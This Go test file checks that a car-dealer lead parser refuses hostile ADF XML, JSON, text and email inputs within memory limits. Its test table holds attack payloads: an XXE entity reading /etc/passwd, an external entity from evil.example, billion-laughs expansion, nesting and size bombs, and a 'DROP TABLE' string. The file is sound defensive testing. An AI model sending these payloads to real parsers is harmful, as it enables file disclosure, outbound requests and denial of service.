package enquiry_test

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/winback-auto/winback/internal/lead/enquiry"
)

const person = `<customer><contact><name>Ann Lee</name><email>ann@mail.example</email></contact></customer>`

func adf(inner string) string { return "<adf><prospect>" + inner + "</prospect></adf>" }

// hostile are documents that nobody sends in good faith, with what the refusal says.
var hostile = []struct {
	name, contentType, want string
	document                func() string
}{
	{"a file as an entity", "application/xml", "declares", func() string {
		return `<?xml version="1.0"?><!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + adf(`<id>&xxe;</id>`+person)
	}},
	{"an entity of a parameter", "application/xml", "declares", func() string {
		return `<!DOCTYPE adf [<!ENTITY % e SYSTEM "http://evil.example/e.dtd"> %e;]>` + adf(person)
	}},
	{"a document type behind a quoted bracket", "application/xml", "", func() string {
		return `<!DOCTYPE adf SYSTEM "a>b" [<!ENTITY x "y">]>` + adf(person)
	}},
	{"an entity without a document type", "application/xml", "declares", func() string { return `<!ENTITY x "y">` + adf(person) }},
	{"an entity inside of the document", "application/xml", "declares", func() string { return adf(`<!ENTITY x "y">` + person) }},
	{"a billion laughs", "application/xml", "declares", func() string {
		var b strings.Builder
		b.WriteString(`<!DOCTYPE adf [<!ENTITY l0 "lol">`)
		for i := 1; i < 10; i++ {
			fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
		}
		return b.String() + "]>" + adf("<comments>&l9;</comments>"+person)
	}},
	{"a billion laughs in a mail", "message/rfc822", "declares", func() string {
		return "From: a@b.example\n\n<!DOCTYPE adf [<!ENTITY x \"y\">]>\n" + adf(person)
	}},
	{"deep nesting", "application/xml", "deeper than 32", func() string { return "<adf>" + strings.Repeat("<a>", 80_000) }},
	{"deep nesting over the size", "application/xml", "more than 262144 bytes", func() string { return "<adf>" + strings.Repeat("<a>", 2_000_000) }},
	{"many elements", "application/xml", "more than 5000 elements", func() string { return adf(strings.Repeat("<a/>", 60_000)) }},
	{"many prospects", "application/xml", "more than 50 prospects", func() string { return "<adf>" + strings.Repeat("<prospect/>", 60) + "</adf>" }},
	{"a million attributes", "application/xml", "more than 262144 bytes", func() string { return "<adf " + distinct(1_000_000) + "></adf>" }},
	{"as many attributes as fit", "application/xml", "bytes", func() string { return "<adf " + distinct(40_000) + "></adf>" }},
	{"an attribute too many", "application/xml", "more than 64 attributes", func() string { return "<adf " + distinct(65) + "></adf>" }},
	{"a second root", "application/xml", "follows </adf>", func() string { return adf(person) + adf(person) }},
	{"junk at the end", "application/xml", "follows </adf>", func() string { return adf(person) + "DROP TABLE leads" }},
	{"junk at the beginning", "application/xml", "before <adf>", func() string { return "hello " + adf(person) }},
	{"another root", "application/xml", "root is not <adf>", func() string { return "<html>" + adf(person) + "</html>" }},
	{"cut off", "application/xml", "ends before", func() string { return strings.TrimSuffix(adf(person), "</adf>") }},
	{"no prospect", "application/xml", "no <prospect>", func() string { return "<adf></adf>" }},
	{"nothing", "application/xml", "no <adf>", func() string { return "" }},
	{"NUL", "application/xml", "NUL", func() string { return adf("<id>1\x00</id>" + person) }},
	{"invalid UTF-8", "application/xml", "not UTF-8", func() string { return adf("<id>1\xff</id>" + person) }},
	{"UTF-16", "application/xml", "UTF-16", func() string { return "\xff\xfe<\x00a\x00d\x00f\x00>\x00" }},
	{"UTF-16 without a mark", "application/xml", "UTF-16", func() string { return "<\x00a\x00d\x00f\x00>\x00" }},
	{"a text of 10 MB", "application/xml", "more than 262144 bytes", func() string { return adf("<comments>" + strings.Repeat("x", 10<<20) + "</comments>") }},
	{"a text as long as fits", "application/xml", "more than 65536 bytes", func() string { return adf("<comments>" + strings.Repeat("x", 250_000) + "</comments>") }},
	{"a comment that never ends", "application/xml", "bytes", func() string { return "<adf><!--" + strings.Repeat("-", 250_000) }},
	{"10 MB of plain text", "text/plain", "more than 262144 bytes", func() string { return strings.Repeat("Name: x\n", 10<<17) }},
	{"a mail of 10 MB", "message/rfc822", "more than 4500000 bytes", func() string { return "From: a@b.example\n\n" + strings.Repeat("x", 10<<20) }},
	{"a mail with a text of 4 MB", "message/rfc822", "more than 262144 bytes", func() string { return "From: a@b.example\n\n" + strings.Repeat("x", 4<<20) }},
	{"a header of 4 MB", "message/rfc822", "cannot be read", func() string { return "From: a@b.example\nX: " + strings.Repeat("x", 4<<20) + "\n\n" }},
	{"parts within parts", "message/rfc822", "nests deeper", func() string {
		var b strings.Builder
		b.WriteString("From: a@b.example\nMIME-Version: 1.0\n")
		for i := range 300 {
			fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n", i, i)
		}
		return b.String()
	}},
	{"many parts", "message/rfc822", "more than 100 parts", func() string {
		return "From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + strings.Repeat("--b\nContent-Type: image/png\n\nx\n", 20_000)
	}},
	{"JSON that nests", "application/json", "deeper", func() string { return strings.Repeat(`{"customer":`, 20_000) }},
	{"JSON with trailing data", "application/json", "behind the end", func() string { return `{"customer":{"email":"ann@mail.example"}}{}` }},
	{"JSON with doubled members", "application/json", "there twice", func() string { return `{"customer":{"email":"ann@mail.example","email":"bob@mail.example"}}` }},
	{"JSON of 10 MB", "application/json", "more than 262144 bytes", func() string { return `{"comments":"` + strings.Repeat("x", 10<<20) + `"}` }},
	{"JSON that is not UTF-8", "application/json", "not valid JSON", func() string { return "{\"comments\":\"\xff\"}" }},
}

// distinct are so many attributes.
func distinct(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "a%x ", i)
	}
	return b.String()
}

// maxMemory is what reading any document may allocate in all, freed on the way or not.
const maxMemory = 16 << 20 * slack

func TestHostileDocumentsAreRefusedBeforeTheyCostAnything(t *testing.T) {
	for _, test := range hostile {
		t.Run(test.name, func(t *testing.T) {
			document := []byte(test.document())
			var d enquiry.Document
			var err error
			cost := allocated(func() { d, err = enquiry.Parse(test.contentType, document, sydney) })
			if err == nil || !strings.Contains(err.Error(), test.want) || len(d.Enquiries) > 0 {
				t.Errorf("%d enquiries, error %v, want %q", len(d.Enquiries), err, test.want)
			}
			if strings.Contains(fmt.Sprint(err), "root:") || strings.Contains(fmt.Sprint(err), "lollol") {
				t.Errorf("the answer repeats what an entity stands for: %v", err)
			}
			if cost > maxMemory {
				t.Errorf("allocates %d bytes", cost)
			}
		})
	}
}

// The greatest documents that are read stay within the same bound, whatever makes them great.
func TestTheGreatestDocumentsStayWithinTheBound(t *testing.T) {
	fill := func(piece string) string {
		return adf(person + strings.Repeat(piece, min((enquiry.MaxBytes-200)/len(piece), 4900/max(1, strings.Count(piece, "<")/2))))
	}
	for name, document := range map[string]string{
		"comments":            fill("<comments>" + strings.Repeat("x y ", 2000) + "</comments>"),
		"short texts":         fill("<comments>hello there</comments>"),
		"comments in between": adf(person + "<comments>" + strings.Repeat("x<!-- -->", 25_000) + "</comments>"),
		"vehicles":            fill("<vehicle><make>Kia</make><stock>1</stock><vin>x</vin></vehicle>"),
		"phones":              fill("<customer><phone>0412 345 678</phone></customer>"),
		"unknown":             fill("<what><ever>is this</ever></what>"),
		"attributes":          fill("<a " + strings.Repeat("b=c ", 60) + "/>"),
		"names":               fill("<customer><name>" + strings.Repeat("Ann ", 40) + "</name></customer>"),
		"ampersands":          adf(person + "<comments>" + strings.Repeat("&amp;", 13_000) + "</comments>"),
		"end tags":            adf(person + strings.Repeat("</x>", 60_000)),
	} {
		var d enquiry.Document
		var err error
		cost := allocated(func() { d, err = enquiry.ParseADF([]byte(document), "", sydney) })
		if err != nil || len(d.Enquiries) != 1 {
			t.Errorf("%s (%d bytes): %v, %v", name, len(document), len(d.Enquiries), err)
		}
		if cost > maxMemory {
			t.Errorf("%s (%d bytes): allocates %d bytes", name, len(document), cost)
		}
	}
	for name, text := range map[string]string{
		"labels":    strings.Repeat("Email: ann@mail.example\n", 10_000),
		"unknown":   "Email: ann@mail.example\n" + strings.Repeat("What: ever\n", 20_000),
		"stacked":   strings.Repeat("Email\nann@mail.example\n", 10_000),
		"comments":  "Email: ann@mail.example\nMessage:\n" + strings.Repeat("x\n", 100_000),
		"html":      "<div>Email</div><div>ann@mail.example</div>" + strings.Repeat("<td>", 60_000),
		"addresses": "phone: 0412 345 678 " + strings.Repeat("a@b.example ", 20_000),
		"colons":    "phone: 0412 345 678 " + strings.Repeat(":", 200_000),
		"at signs":  "phone: 0412 345 678 " + strings.Repeat("@", 200_000),
	} {
		var d enquiry.Document
		var err error
		cost := allocated(func() { d, err = enquiry.ParseText([]byte(text), "", sydney) })
		if err != nil || len(d.Enquiries) != 1 {
			t.Errorf("%s (%d bytes): %v, %v", name, len(text), len(d.Enquiries), err)
		}
		if cost > maxMemory {
			t.Errorf("%s (%d bytes): allocates %d bytes", name, len(text), cost)
		}
	}
}

func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

func TestAnEnquiryIsBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString(`<id>` + strings.Repeat("1", 300) + `</id>` + person)
	for i := range 64 {
		fmt.Fprintf(&b, `<vehicle><model>m%d</model></vehicle><customer><phone>0412 345 %03d</phone></customer><x>%d%s</x><comments>%d %s</comments>`,
			i, i, i, strings.Repeat("long ", 200), i, strings.Repeat("word ", 500))
	}
	d, err := enquiry.ParseADF([]byte(adf(b.String())), "", sydney)
	if err != nil {
		t.Fatal(err)
	}
	e := d.Enquiries[0]
	if len(e.OtherVehicles) != 10 || len(e.Customer.Phones) != 5 || len(e.Further) != 60 || len([]rune(e.Comments)) != 8000 || e.ID != "" || len([]rune(e.Further[59])) > 400 {
		t.Errorf("%d vehicles, %d phones, %d further, %d comments, id %q", len(e.OtherVehicles), len(e.Customer.Phones), len(e.Further), len([]rune(e.Comments)), e.ID)
	}
	if len(e.Warnings) != 3 {
		t.Errorf("warnings %q, want one about each bound", e.Warnings)
	}
}

func BenchmarkHostile(b *testing.B) {
	for _, test := range hostile {
		document := []byte(test.document())
		b.Run(strings.ReplaceAll(test.name, " ", "-"), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := enquiry.Parse(test.contentType, document, sydney); err == nil {
					b.Fatal("not refused")
				}
			}
		})
	}
}

func BenchmarkSamples(b *testing.B) {
	for _, name := range []string{"complete.xml", "enquiry.json", "labelled.txt", "adf_attached.eml"} {
		document, err := os.ReadFile("testdata/" + name)
		if err != nil {
			b.Fatal(err)
		}
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := enquiry.Parse(contentTypes[filepath.Ext(name)], document, sydney); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
